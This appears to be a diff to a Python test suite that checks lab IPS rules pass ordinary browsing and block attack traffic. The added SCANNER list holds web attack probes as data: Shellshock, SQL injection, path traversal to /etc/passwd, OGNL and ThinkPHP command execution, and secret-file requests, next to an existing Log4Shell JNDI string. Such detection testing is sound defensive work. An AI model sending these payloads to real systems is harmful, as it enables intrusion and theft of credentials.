@@ -1,5 +1,7 @@
 """Attacks and ordinary traffic through a gateway with the starter set of IPS rules."""
 
+import concurrent.futures
+import http.client
 import json
 import re
 import socket
@@ -10,6 +12,19 @@ from harness import ROOT, SERVER, LabTest, policy, rule, services, unittest
 
 LOG4SHELL = "/?q=$%7Bjndi:ldap://198.51.100.66/a%7D"
 RAW_LOG4SHELL = b"GET /?q=${jndi:ldap://198.51.100.66/a} HTTP/1.1\r\nHost: server.lab.example\r\n\r\n"
+NUM_PAGES, PAGES_A_CONNECTION = 10_000, 50
+BROWSER = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
+           "Accept": "text/html,application/xhtml+xml", "Accept-Language": "ja,en;q=0.5", "Cookie": "seen=1; theme=dark"}
+SCANNER = tuple(line.replace(b"|", b"\r\n") for line in (
+    b"GET /.git/config HTTP/1.1|User-Agent: curl/7.88|", b"GET /.env HTTP/1.1|", b"GET /?id=1'%20UNION%20SELECT%20password%20FROM%20users-- HTTP/1.1|",
+    b"GET /cgi-bin/../../../../etc/passwd HTTP/1.1|", b"GET /static/%2e%2e/%2e%2e/%2e%2e/etc/passwd HTTP/1.1|",
+    b"GET /cgi-bin/status HTTP/1.1|User-Agent: () { :; }; /bin/bash -c 'id'|",
+    b"GET / HTTP/1.1|User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)|",
+    b"GET / HTTP/1.1|User-Agent: Mozilla/5.00 (Nikto/2.1.6)|",
+    b"GET /?x=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1|",
+    b"GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1|",
+    b"GET /index.php?s=/index/think%5Capp/invokefunction&function=call_user_func_array HTTP/1.1|",
+    b"GET /%24%7B%28%23a%3D%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/ HTTP/1.1|"))
 OWN_RULE = ('drop http any any -> any any (msg:"ours: not for guests"; flow:to_server; http.uri; '
             'content:"/forbidden"; sid:1000001; rev:3;)')
 INSPECTED = rule("inspected", "allow", profile="office")
@@ -134,10 +149,37 @@ class Ips(LabTest):
         with self.assertRaises((TimeoutError, ConnectionResetError)):
             self.fail(f"answered: {connection.recv(100)}")
 
-    def test_ordinary_pages_pass(self):
-        for n in range(100):
-            self.assertIsNotNone(self.page(f"http://{SERVER.ipv4 if n % 2 else '[' + SERVER.ipv6 + ']'}/"))
+    def test_ten_thousand_ordinary_pages_pass(self):
+        self.apply_inspection(minimum_severity="low")
+        with concurrent.futures.ThreadPoolExecutor(4) as browsers:
+            answered = sum(browsers.map(self.browse, range(NUM_PAGES // PAGES_A_CONNECTION)))
+        self.assertEqual(answered, NUM_PAGES)
         self.assertEqual(self.alerts(), [])
+
+    def browse(self, number):
+        """Pages over one connection; how many were answered."""
+        browser = http.client.HTTPConnection(SERVER.ipv6 if number % 2 else SERVER.ipv4)
+        browser.sock = self.try_connect(SERVER.ipv6 if number % 2 else SERVER.ipv4, 80, timeout=10)[1]
+        browser.auto_open = 0
+        for page in range(PAGES_A_CONNECTION):
+            browser.request("GET", f"/?q=weather+in+tokyo&page={page}&session={number:08x}", headers=BROWSER)
+            browser.getresponse().read()
+        browser.close()
+        return PAGES_A_CONNECTION
+
+    def test_a_scanner_gets_no_answer_and_every_event_names_its_rule(self):
+        self.apply_inspection(minimum_severity="low")
+        for request in SCANNER:
+            with self.subTest(request):
+                self.seen = len(self.events("alert"))
+                outcome, connection = self.try_connect(SERVER.ipv4, 80)
+                self.assertEqual(outcome, "open")
+                with connection:
+                    connection.sendall(request + b"Host: server.lab.example\r\n\r\n")
+                    with self.assertRaises((TimeoutError, ConnectionResetError)):
+                        self.fail(f"answered: {connection.recv(100)}")
+                alerts = self.eventually(self.alerts, "an alert")
+                self.assertTrue(any(one["alert"]["action"] == "blocked" for one in alerts), alerts)
 
     def test_the_command_line_knows_packs_and_costs(self):
         self.attack()
